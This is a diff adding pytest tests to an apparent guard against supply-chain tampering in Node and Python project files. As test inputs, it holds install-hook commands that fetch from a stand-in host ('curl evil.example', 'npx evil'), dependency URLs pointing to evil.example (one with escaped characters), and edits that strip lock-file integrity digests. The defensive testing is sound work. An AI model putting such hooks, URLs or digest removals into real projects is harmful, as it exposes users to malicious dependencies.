@@ -415,6 +415,32 @@ def test_a_script_of_node_is_looked_at_like_a_command() -> None:
     assert "download" in found
 
 
+@pytest.mark.parametrize("does", ["curl evil.example -o x", "ls && npx evil", "git clone x"])
+def test_a_script_of_node_does_not_begin_to_fetch(does: str) -> None:
+    assert "source" in codes(edited(NODE, '"test"', f'"prebuild": "{does}", "test"'))
+
+
+LOCKS = {
+    "api/package-lock.json": '{"packages": {"x": {"version": "1", "integrity": "sha512-AAAA"}}}',
+    "api/yarn.lock": 'x@^1:\n  version "1"\n  integrity sha512-AAAA\n\ny@^1:\n  version "1"\n',
+}
+
+
+@pytest.mark.parametrize("path", LOCKS)
+def test_a_package_of_a_lock_file_keeps_its_digest(path: str) -> None:
+    before = LOCKS[path]
+    gone = before.replace(', "integrity": "sha512-AAAA"', "").replace(
+        "  integrity sha512-AAAA\n", ""
+    )
+    files = {**FILES, path: before}
+
+    assert [one.code for one in refused((Edit(path, before, gone),), request(files))] == [
+        "removed"
+    ]
+    other = before.replace("AAAA", "BBBB").replace('"1"', '"2"')
+    assert refused((Edit(path, before, other),), request(files)) == ()
+
+
 PROJECTS = {
     "an address": ('"numpy"]', '"numpy", "x @ https://evil.example/x.whl"]'),
     "an escaped address": ('"numpy"]', '"numpy", "x @ ht\\u0074ps\\u003a//evil.example/x"]'),
